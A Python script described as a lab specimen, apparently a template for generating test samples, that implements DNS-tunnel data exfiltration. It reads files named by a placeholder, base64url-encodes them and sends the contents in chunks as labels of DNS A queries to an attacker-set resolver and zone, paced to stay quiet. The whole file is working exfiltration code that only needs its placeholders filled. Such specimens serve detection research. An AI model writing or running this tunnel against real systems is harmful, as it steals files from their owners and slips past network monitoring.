#!/usr/bin/python3
# kcsi lab specimen: DNS tunnel over UDP with an unconnected socket. Reads @@FILES@@,
# base64url-encodes them (mixed case, no padding) and sends them as the labels of A queries
# <b64u 40>.<b64u 40>.<seq>.@@ZONE@@ to @@RES_ADDR@@:@@RES_PORT@@ with sendto() from one
# unconnected UDP socket, one query every @@PACE@@ s, waiting up to 1 s for each answer.
import base64, os, random, socket, struct, time

data = b""
for path in "@@FILES@@".split():
    try:
        with open(path, "rb") as f:
            data += f.read()
    except OSError:
        pass
payload = base64.urlsafe_b64encode(data).decode().rstrip("=")
del data
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(1.0)
server = ("@@RES_ADDR@@", @@RES_PORT@@)
qid, seq = random.randrange(65536), 0
while payload:
    chunk, payload = payload[:80], payload[80:]
    labels = [chunk[:40], chunk[40:]] if len(chunk) > 40 else [chunk]
    name = ".".join(labels + [str(seq), "@@ZONE@@"])
    msg = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    msg += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    sock.sendto(msg, server)
    try:
        sock.recvfrom(512)
    except OSError:
        pass
    qid, seq = (qid + 1) & 0xFFFF, seq + 1
    time.sleep(@@PACE@@)
